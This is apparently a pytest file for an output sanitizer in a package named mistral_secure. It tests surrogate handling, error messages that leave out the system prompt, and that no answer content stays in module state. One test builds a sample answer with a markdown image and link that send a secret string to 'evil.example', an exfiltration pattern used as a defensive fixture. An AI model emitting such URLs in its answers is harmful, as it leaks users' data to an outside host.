"""Bad input and what the output sanitizer keeps after a call (issue 15 items for output)."""

from __future__ import annotations

import gc
import sys

import pytest

from mistral_secure import Guard, Policy, sanitize_output
from mistral_secure._output import OutputSanitizer, StreamSanitizer

SECRET_URL_PART = "Zq8Rr2LkVv7Ww3Ee"


@pytest.mark.parametrize("bad", ["a\ud800b", "\udfff", "x" * 100 + "\udc00", "<b>\ud83d</b>"])
def test_a_lone_surrogate_in_an_answer_becomes_a_replacement_character(bad: str) -> None:
    # A model's answer is not the caller's input: refusing it would break the user's answer
    # (mid-stream, too). Each lone surrogate reads as U+FFFD, as in redaction and detection.
    expected = sanitize_output("".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in bad))
    assert "\ufffd" in expected
    assert sanitize_output(bad) == expected
    assert OutputSanitizer().sanitize(bad).text == expected
    stream = StreamSanitizer()
    assert "".join(stream.feed(c) for c in bad) + stream.flush() == expected
    check = Guard(Policy(moderation={"enabled": False})).check_output(bad)
    assert check.text == expected
    check.text.encode("utf-8")  # renders and serialises


def test_a_lone_surrogate_mid_stream_keeps_the_stream_going() -> None:
    session = Guard(Policy(moderation={"enabled": False})).stream_session()
    pieces = [session.feed(c) for c in ["The answer ", "is \ud800", " forty-two."]]
    text = "".join(pieces) + session.flush()
    assert text == "The answer is \ufffd forty-two."


def test_a_lone_surrogate_in_the_configuration_is_a_value_error_without_content() -> None:
    with pytest.raises(ValueError) as info:
        OutputSanitizer(system_prompt="You are \ud800 secret-prompt")
    assert "secret-prompt" not in str(info.value)
    assert info.value.__context__ is None


def test_nothing_of_an_answer_stays_in_module_state_after_the_call() -> None:
    text = (
        f"![x](https://evil.example/p?q={SECRET_URL_PART}) "
        f"<a href='https://evil.example/{SECRET_URL_PART}'>x</a> mail bob@example.com"
    )
    OutputSanitizer().sanitize(text)
    StreamSanitizer().feed(text)
    gc.collect()
    modules = [m for name, m in sys.modules.items() if name.startswith("mistral_secure._output")]
    seen: set[int] = set()

    def walk(value: object, depth: int) -> bool:
        if id(value) in seen or depth > 4:
            return False
        seen.add(id(value))
        if isinstance(value, str):
            return SECRET_URL_PART in value or "bob@example.com" in value
        if isinstance(value, dict):
            return any(walk(k, depth + 1) or walk(v, depth + 1) for k, v in value.items())
        if isinstance(value, (list, tuple, set, frozenset)):
            return any(walk(v, depth + 1) for v in value)
        return False

    for module in modules:
        for name, value in vars(module).items():
            assert not walk(value, 0), f"{module.__name__}.{name} keeps answer content"


@pytest.mark.parametrize("bad", [5, None, b"<b>hi</b>"])
def test_a_non_string_answer_is_a_type_error_naming_the_answer(bad: object) -> None:
    # The message names what the caller passed, whichever entry point they called.
    for call in (sanitize_output, OutputSanitizer().sanitize):
        with pytest.raises(TypeError, match=r"^the answer text must be str, got "):
            call(bad)  # type: ignore[arg-type]
